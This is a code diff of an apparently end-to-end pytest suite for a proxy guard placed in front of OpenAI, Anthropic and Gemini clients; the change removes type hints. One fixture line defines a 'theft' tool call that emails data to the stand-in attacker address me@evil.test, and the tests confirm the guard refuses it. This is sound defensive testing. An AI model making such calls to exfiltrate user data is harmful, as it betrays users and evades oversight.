@@ -6,19 +6,14 @@ Clients are imported where they are used: every worker of pytest imports every m
 these three take a fifth of that time.
 """
 
-from __future__ import annotations
-
 import json
-from typing import TYPE_CHECKING, Any
+from typing import Any
 
 import httpx
 import pytest
 
-from tests.e2e.running_guard import RunningGuard, Upstream, serving
+from tests.e2e.running_guard import Upstream, serving
 from tests.model_wires import Call, stream, whole
-
-if TYPE_CHECKING:
-    from collections.abc import Callable, Iterator
 
 RECALL = Call("call_1", "memory_recall_fact", {"key": "Grüße 😀"})
 MAIL = Call("call_1", "email_send_email", {"to": "team@example.com", "subject": "s", "body": "b"})
@@ -26,7 +21,7 @@ THEFT = Call("call_1", "email_send_email", {"to": "me@evil.test", "subject": "s"
 TOOLS = {"benign": [RECALL, MAIL], "theft": [THEFT], "mixed": [RECALL, THEFT]}
 
 
-def _kind(head: bytes) -> str:
+def _kind(head):
     if b"chat/completions" in head:
         return "openai_chat"
     if b"responses" in head:
@@ -34,7 +29,7 @@ def _kind(head: bytes) -> str:
     return "anthropic_messages" if b"/v1/messages" in head else "gemini"
 
 
-def answer(request: bytes) -> bytes:
+def answer(request):
     """Answer as the API that was asked; the prompt says which calls to make."""
     head, _, body = request.partition(b"\r\n\r\n")
     document = json.loads(body)
@@ -52,7 +47,7 @@ def answer(request: bytes) -> bytes:
 
 
 @pytest.fixture(scope="module")
-def model(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningGuard]:
+def model(tmp_path_factory):
     """Return a guard in front of a model server."""
     server = Upstream()
     server.answer = answer
@@ -64,7 +59,7 @@ def model(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningGuard]:
 Answer = tuple[str, list[tuple[str, dict[str, Any]]], str]
 
 
-def ask_openai_chat(url: str, prompt: str, *, streamed: bool) -> Answer:
+def ask_openai_chat(url, prompt, *, streamed):
     """Ask with the client's own accumulation of the stream."""
     import openai
 
@@ -72,7 +67,7 @@ def ask_openai_chat(url: str, prompt: str, *, streamed: bool) -> Answer:
         httpx.Client(trust_env=False) as http,
         openai.OpenAI(api_key="k", base_url=f"{url}/v1", http_client=http) as client,
     ):
-        messages: Any = [{"role": "user", "content": prompt}]
+        messages = [{"role": "user", "content": prompt}]
         if streamed:
             with client.chat.completions.stream(model="m", messages=messages) as events:
                 choice = events.get_final_completion().choices[0]
@@ -84,7 +79,7 @@ def ask_openai_chat(url: str, prompt: str, *, streamed: bool) -> Answer:
     return choice.message.content, calls, choice.finish_reason
 
 
-def ask_openai_responses(url: str, prompt: str, *, streamed: bool) -> Answer:
+def ask_openai_responses(url, prompt, *, streamed):
     """Ask with the client's own accumulation of the stream."""
     import openai
 
@@ -105,7 +100,7 @@ def ask_openai_responses(url: str, prompt: str, *, streamed: bool) -> Answer:
     return response.output_text, calls, response.status
 
 
-def ask_anthropic(url: str, prompt: str, *, streamed: bool) -> Answer:
+def ask_anthropic(url, prompt, *, streamed):
     """Ask with the client's own accumulation of the stream."""
     import anthropic
 
@@ -113,7 +108,7 @@ def ask_anthropic(url: str, prompt: str, *, streamed: bool) -> Answer:
         httpx.Client(trust_env=False) as http,
         anthropic.Anthropic(api_key="k", base_url=url, http_client=http) as client,
     ):
-        request: Any = {
+        request = {
             "model": "m",
             "max_tokens": 9,
             "messages": [{"role": "user", "content": prompt}],
@@ -128,11 +123,11 @@ def ask_anthropic(url: str, prompt: str, *, streamed: bool) -> Answer:
     return text, calls, message.stop_reason
 
 
-def ask_gemini(url: str, prompt: str, *, streamed: bool) -> Answer:
+def ask_gemini(url, prompt, *, streamed):
     """Ask with the official client."""
     from google import genai
 
-    options: Any = {"base_url": url, "client_args": {"trust_env": False}}
+    options = {"base_url": url, "client_args": {"trust_env": False}}
     with genai.Client(api_key="k", http_options=options) as client:
         if streamed:
             chunks = list(client.models.generate_content_stream(model="m", contents=prompt))
@@ -155,9 +150,7 @@ STREAMED = pytest.mark.parametrize("streamed", [True, False], ids=["streamed", "
 
 @STREAMED
 @pytest.mark.parametrize(("ask", "ends"), CLIENTS)
-def test_a_benign_answer_is_the_same_with_and_without_the_guard(
-    model: RunningGuard, ask: Callable[..., Answer], ends: tuple[str, str], streamed: bool
-) -> None:
+def test_a_benign_answer_is_the_same_with_and_without_the_guard(model, ask, ends, streamed):
     """Text, calls and the reason for the end."""
     direct = ask(f"http://127.0.0.1:{model.upstream.port}", "please benign", streamed=streamed)
 
@@ -170,9 +163,7 @@ def test_a_benign_answer_is_the_same_with_and_without_the_guard(
 
 @STREAMED
 @pytest.mark.parametrize(("ask", "ends"), CLIENTS)
-def test_a_refused_call_arrives_as_words_and_the_loop_goes_on(
-    model: RunningGuard, ask: Callable[..., Answer], ends: tuple[str, str], streamed: bool
-) -> None:
+def test_a_refused_call_arrives_as_words_and_the_loop_goes_on(model, ask, ends, streamed):
     """The client reads a refusal, no call, and can send it back as part of the history."""
     url = f"http://127.0.0.1:{model.port}"
 
@@ -187,9 +178,7 @@ def test_a_refused_call_arrives_as_words_and_the_loop_goes_on(
 
 @STREAMED
 @pytest.mark.parametrize(("ask", "ends"), CLIENTS)
-def test_only_the_refused_call_of_an_answer_is_replaced(
-    model: RunningGuard, ask: Callable[..., Answer], ends: tuple[str, str], streamed: bool
-) -> None:
+def test_only_the_refused_call_of_an_answer_is_replaced(model, ask, ends, streamed):
     """The other call arrives, and the answer still ends in calls."""
     text, calls, end = ask(f"http://127.0.0.1:{model.port}", "please mixed", streamed=streamed)
 
